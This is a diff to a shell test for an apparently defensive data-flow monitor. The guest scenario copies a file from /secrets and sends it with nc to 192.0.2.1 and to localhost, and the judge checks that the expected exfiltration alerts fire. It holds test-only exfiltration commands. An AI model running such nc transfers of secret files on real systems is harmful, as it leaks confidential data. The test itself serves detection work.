@@ -461,20 +461,19 @@ guest_policy()
 		echo 'the plan' > /secrets/plan
 		echo 'mine' > /plain/mine
 		$b chown 4711 /plain/mine
-		# send PORT ADDRESS FILE [OPTION]
+		# send PORT ADDRESS FILE
 		send() {
-			$b timeout 4 $b nc $4 -l -p $1 > /dev/null &
+			$b timeout 4 $b nc -l -p $1 > /dev/null &
 			$b sleep 1
-			$b timeout 2 $b nc $4 $2 $1 < $3
+			$b timeout 2 $b nc $2 $1 < $3
 			wait
 		}
 		send 4801 127.0.0.1 /secrets/plan
 		$b cat /secrets/plan > /plain/copy
 		send 4802 192.0.2.1 /plain/copy
-		send 4803 127.0.0.1 /plain/copy -u
-		send 4803 192.0.2.1 /plain/copy -u
+		/payload/scenario out-datagram || exit 1
 		send 4804 192.0.2.1 /plain/mine
-		$b cat /plain/copy > /dev/ttyS1
+		$b cat /plain/copy > /dev/console
 		call policy || exit 1
 		exit 0
 	END
@@ -491,8 +490,8 @@ judge_policy()
 	local alerts=$1/alerts.json
 
 	judge_played "$1" "$2" || return 0
-	want "$(state "$alerts" '[.[] | select(.label == "plans") | "\(.sink) \(.destination) \(.process.comm) \(.path_complete)"] | sort | join(", ")')" \
-		'internet 192.0.2.1:4802 busybox true, internet 192.0.2.1:4803 busybox true, serial /dev/ttyS1 busybox true' 'alerts of plans'
+	want "$(state "$alerts" '[.[] | select(.label == "plans") | "\(.sink) \(.destination) \(.process.exe) \(.path_complete)"] | sort | join(", ")')" \
+		'console /dev/console /bin/busybox true, internet 192.0.2.1:4802 /bin/busybox true, internet 192.0.2.1:4803 /payload/scenario true' 'alerts of plans'
 	want "$(state "$alerts" '[.[] | select(.label == "owned") | "\(.sink) \(.destination) \(.origin.path)"] | join(", ")')" \
 		'internet 192.0.2.1:4804 /plain/mine' 'alerts of owned'
 	want "$(state "$alerts" 'all(.[]; .origin.path == (if .label == "plans" then "/secrets/plan" else "/plain/mine" end))')" true 'origins'
